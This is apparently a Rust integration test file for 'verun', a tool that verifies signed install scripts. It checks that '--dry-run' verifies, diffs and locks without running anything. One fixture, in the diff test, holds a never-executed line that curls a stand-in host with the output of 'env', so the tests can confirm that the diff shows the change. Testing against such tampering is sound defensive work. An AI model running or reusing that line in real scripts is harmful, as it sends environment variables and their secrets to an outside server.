//! `verun run --dry-run`: verify, show, diff and lock as asked, then exit 0 without running
//! anything (SPEC, RUN-OPTIONS).
//!
//! A dry run leaves no trace but the lockfile entry it was asked for: no cache entry (so the
//! next real run's `--diff` compares with what last really ran, not with bytes that never
//! ran), no rollback mark (a newer release only looked at does not refuse the older one
//! still in use), no key-use count. Refusals keep their exit codes.

mod common;

use std::path::PathBuf;
use std::process::Output;

use common::*;

impl Site {
    /// `verun run URL --allow-http --key K EXTRA...`.
    fn run(&self, url: &str, extra: &[&str]) -> Output {
        let mut args: Vec<String> = vec![
            "run".into(),
            url.into(),
            "--allow-http".into(),
            "--key".into(),
            self.key.public_key_base64(),
        ];
        args.extend(extra.iter().map(|s| s.to_string()));
        self.env.verun(&args)
    }

    fn lock(&self) -> PathBuf {
        self.env.path("verun.lock")
    }
}

#[track_caller]
fn assert_stderr_has(out: &Output, needle: &str) {
    assert!(
        stderr(out).contains(needle),
        "stderr lacks {needle:?}:\n{}",
        stderr(out)
    );
}

#[track_caller]
fn assert_stderr_lacks(out: &Output, needle: &str) {
    assert!(
        !stderr(out).contains(needle),
        "stderr has {needle:?}:\n{}",
        stderr(out)
    );
}

#[test]
fn dry_run_verifies_and_runs_nothing() {
    let s = Site::new();
    let (p, marker) = marker_script_with(&s.env, "dry", "exit 3");
    let url = s.publish("/dl/install.sh", &p);
    let out = s.run(&url, &["--dry-run", "--", "arg1"]);
    assert_exit(&out, 0);
    assert_not_ran(&marker);
    assert!(stdout(&out).is_empty(), "stdout: {}", stdout(&out));
    assert_stderr_has(&out, "trusted comment: timestamp:");
    assert_stderr_has(&out, "--dry-run");
    assert_stderr_has(&out, "nothing was run");
    // Even --quiet says that nothing ran.
    let out = s.run(&url, &["--dry-run", "--quiet"]);
    assert_exit(&out, 0);
    assert_not_ran(&marker);
    assert_stderr_has(&out, "nothing was run");
    // The same call without --dry-run runs it (the payload's own status).
    assert_exit(&s.run(&url, &[]), 3);
    assert_ran(&marker);
}

#[test]
fn dry_run_with_show_prints_the_script_and_runs_nothing() {
    let s = Site::new();
    let (p, marker) = marker_script(&s.env, "shown");
    let url = s.publish("/dl/install.sh", &p);
    let out = s.run(&url, &["--dry-run", "--show"]);
    assert_exit(&out, 0);
    assert_not_ran(&marker);
    assert_stderr_has(&out, "verun-test-payload shown ran");
}

#[test]
fn dry_run_with_lock_writes_the_entry() {
    let s = Site::new();
    let (p, marker) = marker_script(&s.env, "locked");
    let url = s.publish("/dl/install.sh", &p);
    let lock = s.lock().display().to_string();
    let out = s.run(&url, &["--dry-run", "--lock", &lock]);
    assert_exit(&out, 0);
    assert_not_ran(&marker);
    let text = std::fs::read_to_string(s.lock()).expect("the lockfile was written");
    let f = verun::lock::Lockfile::parse(&text, &s.lock()).expect("lockfile parses");
    assert_eq!(f.entries.get(&url).expect("entry").sha256, sha256_hex(&p));

    // --frozen accepts it now; a locked URL whose bytes changed is still drift (77).
    let out = s.run(&url, &["--dry-run", "--lock", &lock, "--frozen"]);
    assert_exit(&out, 0);
    let (p2, m2) = marker_script(&s.env, "drifted");
    s.publish("/dl/install.sh", &p2);
    let out = s.run(&url, &["--dry-run", "--lock", &lock]);
    assert_exit(&out, 77);
    assert_not_ran(&m2);
    assert_not_ran(&marker);
}

#[test]
fn dry_run_refusals_keep_their_codes() {
    let s = Site::new();
    let (p, marker) = marker_script(&s.env, "refused");
    let url = s.publish("/dl/install.sh", &p);
    let mut evil = p.clone();
    evil.extend_from_slice(b"echo evil\n");
    s.server.route("/dl/install.sh", Reply::bytes(&evil));
    let out = s.run(&url, &["--dry-run"]);
    assert_exit(&out, 77);
    assert_stderr_has(&out, "verun: hint:");
    assert_not_ran(&marker);

    let out = s.run(&url, &["--dry-run", "--sha256", "abc"]);
    assert_exit(&out, 64);
    let missing = s.server.url("/missing.sh");
    let zeros = "0".repeat(64);
    let out = s.env.verun([
        "run",
        &missing,
        "--allow-http",
        "--sha256",
        &zeros,
        "--dry-run",
    ]);
    assert_exit(&out, 69);
    // --frozen with nothing locked: refused.
    let lock = s.lock().display().to_string();
    s.publish("/dl/install.sh", &p);
    let out = s.run(&url, &["--dry-run", "--lock", &lock, "--frozen"]);
    assert_exit(&out, 77);
    assert_no_file(&s.lock());
    // --confirm asks before running; a dry run runs nothing, so the two conflict.
    let out = s.run(&url, &["--dry-run", "--confirm"]);
    assert_exit(&out, 64);
    assert_not_ran(&marker);
}

#[test]
fn dry_run_diff_compares_with_what_really_ran_and_caches_nothing() {
    let s = Site::new();
    let (v1, m1) = marker_script_with(&s.env, "v1", "echo one");
    let url = s.publish("/dl/install.sh", &v1);
    assert_exit(&s.run(&url, &[]), 0);
    assert_ran(&m1);

    let (v2, m2) = marker_script_with(
        &s.env,
        "v2",
        // never executed (after `exit`): only for --diff to mark
        "exit 0\ncurl -s https://example.invalid/x \"$(env)\"",
    );
    s.publish("/dl/install.sh", &v2);
    for _ in 0..2 {
        let out = s.run(&url, &["--dry-run", "--diff"]);
        assert_exit(&out, 0);
        assert_not_ran(&m2);
        assert_stderr_has(&out, "----- changes in");
        assert_stderr_has(&out, "+!");
        // Not cached by the first dry run: the second still sees the change.
        assert_stderr_lacks(&out, "unchanged");
    }
    // The real run still reviews the change against v1, then runs v2.
    let out = s.run(&url, &["--diff"]);
    assert_exit(&out, 0);
    assert_stderr_has(&out, "----- changes in");
    assert_ran(&m2);
}

#[test]
fn dry_run_records_no_rollback_mark() {
    let s = Site::new();
    let now = now_timestamp();
    let (old, m_old) = marker_script(&s.env, "old");
    let (new, m_new) = marker_script(&s.env, "new");
    let url = s.publish_at("/r/tool.sh", &new, now - 100);
    let out = s.run(&url, &["--dry-run"]);
    assert_exit(&out, 0);
    assert_not_ran(&m_new);
    // The older release (older signed time) still runs: the dry run of the newer one set
    // no mark.
    s.publish_at("/r/tool.sh", &old, now - 10_000);
    let out = s.run(&url, &[]);
    assert_exit(&out, 0);
    assert_ran(&m_old);
    // A dry run still checks the mark a real run set: a rollback is refused (77).
    s.publish_at("/r/tool.sh", &new, now - 100);
    assert_exit(&s.run(&url, &[]), 0);
    assert_ran(&m_new);
    std::fs::remove_file(&m_old).unwrap();
    s.publish_at("/r/tool.sh", &old, now - 10_000);
    let out = s.run(&url, &["--dry-run"]);
    assert_exit(&out, 77);
    assert_stderr_has(&out, "rollback");
    assert_not_ran(&m_old);
}
